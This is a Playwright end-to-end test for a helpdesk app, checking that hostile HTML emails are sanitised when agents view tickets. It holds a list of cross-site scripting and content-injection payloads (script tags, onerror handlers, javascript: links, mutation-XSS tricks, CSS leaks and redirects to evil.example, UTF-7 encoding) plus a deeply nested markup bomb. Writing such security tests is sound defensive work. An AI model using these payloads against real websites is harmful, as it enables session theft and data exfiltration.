// S40, S41, S42: whatever a mail brings, nothing runs, posts, frames, covers or is fetched.
import type { Page } from "@playwright/test";
import { mail } from "../fixtures/mails.ts";
import { expect, test } from "../fixtures/test.ts";

/** Each says `pwned` where it runs, and asks a host of its own where it loads. */
const PAYLOADS = [
  "<script>window.pwned = 1; alert('pwned')</script>",
  "<img src=x onerror=\"alert('pwned')\">",
  "<svg onload=\"alert('pwned')\"><script>alert('pwned')</script></svg>",
  "<svg><a xlink:href=\"javascript:alert('pwned')\"><text y=20>press me</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('pwned')&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert('pwned')>\">",
  "<template><script>alert('pwned')</script></template>",
  "<base href=\"https://evil.example/\"><a href=\"page\">relative</a>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
  "<form action=\"https://evil.example/\"><input name=p autofocus onfocus=\"alert('pwned')\"><button>send</button></form>",
  "<iframe srcdoc=\"<script>parent.alert('pwned')</script>\"></iframe><iframe src=\"https://evil.example/\"></iframe>",
  "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
  "<a href=\"javascript:alert('pwned')\">press me</a> <a href=\"data:text/html,<script>alert('pwned')</script>\">press me</a>",
  "<a href=\"&#106;avascript:alert('pwned')\">press me</a> <a href=\"java\tscript:alert('pwned')\">press me</a>",
  "<style>@import url(https://evil.example/a.css); input[value^=a] { background: url(https://evil.example/leak) } * { position: fixed }</style>",
  "<div style=\"position:fixed;inset:0;z-index:99999;background:url(https://evil.example/cover.png)\">cover</div>",
  "<link rel=stylesheet href=\"https://evil.example/b.css\"><link rel=prefetch href=\"https://evil.example/c\">",
  "<img src=\"https://evil.example/pixel.gif\" width=1 height=1><img srcset=\"https://evil.example/2x.gif 2x\">",
  "<video src=\"https://evil.example/v.mp4\" autoplay onplay=\"alert('pwned')\"></video><audio src=\"https://evil.example/a.mp3\"></audio>",
  "<input type=image src=\"https://evil.example/i.png\"><body background=\"https://evil.example/bg.png\">",
  "<![CDATA[<script>alert('pwned')</script>]]><!--><script>alert('pwned')</script>-->",
  "+ADw-script+AD4-alert('pwned')+ADw-/script+AD4-",
  "<p>the end</p>",
];
/** Nobody writes so: it is no page, but a file. */
const TANGLED = `${"<div>".repeat(3000)}deep${"</div>".repeat(3000)}`;

/** What a page does that it must not. */
function watch(page: Page, home: string): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = request.url();
    if (/^https?:/.test(url) && !url.startsWith(home)) seen.push(`request: ${url}`);
  });
  page.on("popup", (popup) => seen.push(`popup: ${popup.url()}`));
  return seen;
}

test("S40 S41 S42: a hostile mail does nothing where it is read", async ({ desk, open }) => {
  const subject = desk.subject("<img src=x onerror=alert('pwned')>");
  const hostile = mail({
    from: "\"<script>alert('pwned')</script>\" <eve@evil.example>",
    subject,
    body: `javascript:alert('pwned') https://fine.example/\n${PAYLOADS.slice(0, 5).join("\n")}`,
    html: PAYLOADS.join("\n<p>and</p>\n"),
  });
  const taken = await desk.api().handOver(hostile);
  expect(taken.state).toBe("taken");

  const ines = await open(desk.agent, "/tickets");
  const seen = watch(ines.page, new URL(ines.page.url()).origin);
  await ines.page.goto(`/tickets/${taken.ticket_id}`);
  await expect(ines.page.getByRole("heading", { level: 1 })).toContainText("onerror");
  const message = ines.page.getByRole("article").filter({ hasText: "javascript:alert" }).first();
  await message.getByRole("button", { name: "Voir la mise en forme" }).click();
  const frame = message.locator("iframe").contentFrame();
  await expect(frame.locator("body")).toContainText("the end");

  for (const forbidden of ["script", "style", "form", "iframe", "object", "embed", "svg", "math", "base", "meta[http-equiv=refresh]", "link", "video", "audio", "input", "img[src^=http]"]) {
    await expect(frame.locator(`body ${forbidden}`), forbidden).toHaveCount(0);
  }
  const links = await frame.locator("body a[href]").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  for (const href of links) expect(href).toMatch(/^(https?|mailto|tel):/);
  const attributes = await frame.locator("body *").evaluateAll((all) => all.flatMap((one) => one.getAttributeNames()));
  expect(attributes.filter((name) => name.startsWith("on") || name === "style")).toEqual([]);
  const covers = await frame.locator("body *").evaluateAll((all) => all.filter((one) => getComputedStyle(one).position === "fixed").length);
  expect(covers).toBe(0);
  expect(await ines.page.evaluate(() => "pwned" in window)).toBe(false);

  const deep = await desk.api().handOver(mail({ from: "eve@evil.example", subject: "Deep", body: "Bonjour", html: TANGLED }));
  await ines.page.goto(`/tickets/${deep.ticket_id}`);
  await expect(ines.page.getByText("text.html")).toBeVisible();

  // In lists, the portal of whoever wrote it, and notifications, it is text.
  await ines.page.goto("/tickets?view=all&group=none&sort=-created_at");
  await expect(ines.page.getByText(subject).first()).toBeVisible();
  expect(seen).toEqual([]);
  await expect(ines.page).toHaveURL(/\/tickets/);
});
